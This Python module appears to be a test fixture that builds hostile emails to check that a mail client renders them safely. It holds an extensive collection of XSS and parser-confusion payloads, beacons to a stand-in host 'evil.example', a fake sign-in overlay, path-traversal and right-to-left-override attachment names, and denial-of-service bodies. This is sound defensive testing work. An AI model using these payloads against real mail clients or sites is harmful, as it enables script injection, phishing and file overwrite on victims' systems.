"""Mails that want to do harm to whoever opens them in a browser, each as the bytes of a whole mail."""

import base64
from collections.abc import Mapping
from typing import Final

from tests.servers.paint import picture

EVIL: Final = "http://evil.example"
"""Where all of them want to send something: the tests put the address of a listener of theirs in its place."""

RUN: Final = (
    f"top.hacked=1;window.hacked=1;document.title='hacked';new Image().src='{EVIL}/ran';console.error('hacked')"
)
PIXEL: Final = "data:image/png;base64," + base64.b64encode(picture(1, 1, (200, 30, 90))).decode()

SCRIPT: Final = f"""<html><head><base href="{EVIL}/"><meta http-equiv="refresh" content="0;url={EVIL}/m">
<link rel="stylesheet" href="{EVIL}/l.css"><link rel="preload" as="image" href="{EVIL}/p"><script>{RUN}</script>
<script src="{EVIL}/s.js"></script><style>@import url("{EVIL}/i.css"); @font-face{{font-family:x;src:url({EVIL}/f)}}
*{{font-family:x;background:url({EVIL}/b)}}</style></head><body onload="{RUN}" background="{EVIL}/bg">
<p>Innocent words.</p><img src=x onerror="{RUN}"><img src="{EVIL}/remote.png" alt="a chart" srcset="{EVIL}/2x 2x">
<img src="{PIXEL}" alt="a pixel" onload="{RUN}"><svg onload="{RUN}"><script>{RUN}</script>
<a xlink:href="javascript:{RUN}"><text>x</text></a><use href="{EVIL}/u.svg#x"/><foreignObject>
<iframe srcdoc="<script>{RUN}</script>"></iframe></foreignObject></svg><iframe src="javascript:{RUN}"></iframe>
<iframe srcdoc="<script>{RUN}</script>"></iframe>
<object data="{EVIL}/o.swf"></object><embed src="{EVIL}/e"><video autoplay src="{EVIL}/v" poster="{EVIL}/vp"></video>
<audio autoplay src="{EVIL}/a"></audio><a href="javascript:{RUN}">first</a><a href=" java&#10;script:{RUN}">second</a>
<a href="data:text/html,<script>{RUN}</script>">third</a><a href="{EVIL}/" target="_top" ping="{EVIL}/ping">fourth</a>
<form action="{EVIL}/f" method="post"><input name="password" autofocus onfocus="{RUN}"><button>Sign in</button></form>
<details open ontoggle="{RUN}"><summary>x</summary></details><marquee onstart="{RUN}">x</marquee>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;"></mglyph>
</table></mtext></math>
<noscript><p title="</noscript><img src=x onerror={RUN}>"></p></noscript><template><script>{RUN}</script></template>
<p style="background:url({EVIL}/inline);width:expression({RUN})">Last words.</p></body></html>"""

OVERLAY: Final = """<html><head><style>body > p { display: none } #o { position: fixed; inset: 0; z-index: 2147483647 }
</style></head><body><p>What the style hides.</p><div id="o" style="position:fixed;top:-1000px;left:-1000px;
width:5000px;height:5000px;z-index:2147483647;background:#fff">
<a href="http://evil.example/">Your session is over: sign in</a></div>
<span style="font-size:0">What is too small.</span><span style="color:#fff">What is white.</span></body></html>"""

SVG: Final = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script><text y="9">x</text></svg>'
FILES: Final[Mapping[str, tuple[str, str]]] = {
    "../../../etc/cron.d/evil.html": ("text/html", SCRIPT),
    "..\\..\\windows\\evil.svg": ("image/svg+xml", SVG),
    "/absolute/page.xhtml": ("application/xhtml+xml", SCRIPT),
    "invoice\u202efdp.exe": ("application/pdf", "MZ"),
    "a\tb\x01c\u061c\u200b.js": ("text/javascript", RUN),
    "n" * 400 + ".html": ("text/html", SCRIPT),
    '"><img src=x onerror=alert(1)>.txt': ("text/plain", "x"),
}
"""By the name that the mail gives them: what it says they are, and what they are."""

TURNED: Final = "Anna \u202egnihton\u2066 Berg"
SUBJECTS: Final = {
    "script": "<script>top.hacked=1</script> <b>Bold</b> {{ 7 * 7 }}",
    "overlay": "Your session is over",
    "table": "A table of fifty thousand cells",
    "nested": "Ten thousand boxes",
    "large": "Ten megabytes of words",
    "wide": "Ten megabytes without a break",
    "turned": "Invoice \u202efdp.exe\u202c \u2067paid\u2069 \u200f\u061c end",
    "nothing": "Nothing \x00 but\x07 zeroes",
    "files": "Files with names",
    "pictured": "Pictures and what is none",
    "known": "A hundred thousand recipients",
    "endless": "A subject without end " * 5_000,
}
"""What each is about. It is found again by its words that are plain."""


def mails(listener: str) -> dict[str, bytes]:
    """All of them, by name; what they fetch and send goes to `listener`."""
    cells = "<tr>" + "<td>1</td>" * 100 + "</tr>"
    word = "the export of the northern plant stops at number 4711 and nobody knows why. "
    made = {
        "script": _html(SCRIPT),
        "overlay": _html(OVERLAY),
        "table": _html(f"<table>{cells * 500}</table>"),
        "nested": _html("<div>" * 10_000 + "deep" + "</div>" * 10_000),
        "large": _text((word + "\n") * (10_000_000 // len(word))),
        "wide": _html("<p>" + "x" * 10_000_000 + "</p>"),
        "turned": _text("See \u202eexe.fdp\u202c and \u2066this\u2069 \u200bhere."),
        "nothing": b"Content-Type: text/html\r\n\r\n<p>be\x00fore</p><scr\x00ipt>"
        + RUN.encode()
        + b"</scr\x00ipt>\x00",
        "files": _with_files(),
        "pictured": _pictured(),
        "known": b"Cc: "
        + b",\r\n ".join(b"n%d@many.example" % at for at in range(100_000))
        + b"\r\n"
        + _text("Hello."),
        "endless": _text("Hello."),
    }
    return {name: (_head(name) + body).replace(EVIL.encode(), listener.encode()) for name, body in made.items()}


def _head(name: str) -> bytes:
    sender = TURNED if name == "turned" else "Mallory"
    return (
        f"From: {_word(sender)} <{name}@stranger.example>\r\nTo: support@vendor.example\r\n"
        f"Subject: {_word(SUBJECTS[name])}\r\nMessage-ID: <{name}@stranger.example>\r\nMIME-Version: 1.0\r\n"
    ).encode()


def _word(text: str) -> str:
    """An encoded word (RFC 2047) for each few characters: nothing of it is hidden from whoever decodes it."""
    pieces = [text[at : at + 12] for at in range(0, len(text), 12)]
    return "\r\n ".join(f"=?utf-8?b?{base64.b64encode(one.encode()).decode()}?=" for one in pieces)


def _html(text: str) -> bytes:
    return b"Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + _wrapped(text)


def _text(text: str) -> bytes:
    return b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + _wrapped(text)


def _wrapped(text: str) -> bytes:
    return text.replace("\n", "\r\n").encode()


def _with_files() -> bytes:
    parts = [b"--b\r\n" + _text("Please look at these files.")]
    for name, (kind, body) in FILES.items():
        coded = "".join(f"%{byte:02X}" for byte in name.encode())
        how = (
            "attachment" if kind == "text/html" else "inline"
        )  # the first text that is not attached is the mail itself
        head = f"Content-Type: {kind}\r\nContent-Disposition: {how}; filename*=utf-8''{coded}\r\n\r\n"
        parts.append(b"--b\r\n" + head.encode() + _wrapped(body))
    return b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"\r\n".join([*parts, b"--b--\r\n"])


PICTURED: Final = """<p>Regards</p><img src="cid:logo%40x@y.example" alt="our logo"><p>and again
<img src="cid:logo@x@y.example"></p><img src="cid:page@y.example" alt="a page"><img src="cid:drawn@y.example">
<img src="cid:lost@y.example" alt="what was lost"><img src="cid:&quot; onload=alert(1)@y.example">"""
COLOUR: Final = (200, 30, 90)
SIZE: Final = (60, 40)


def _pictured() -> bytes:
    """A logo that is there, twice; and a page, a drawing that can run and nothing at all that say they are pictures."""
    parts = [_html(PICTURED)]
    for name, body in (("logo@x@y", picture(*SIZE, COLOUR)), ("page@y", SCRIPT.encode()), ("drawn@y", SVG.encode())):
        head = f"Content-Type: image/png\r\nContent-ID: <{name}.example>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        parts.append(head.encode() + base64.encodebytes(body).replace(b"\n", b"\r\n"))
    head = b"Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\n"
    return head + b"\r\n--b\r\n".join(parts) + b"\r\n--b--\r\n"
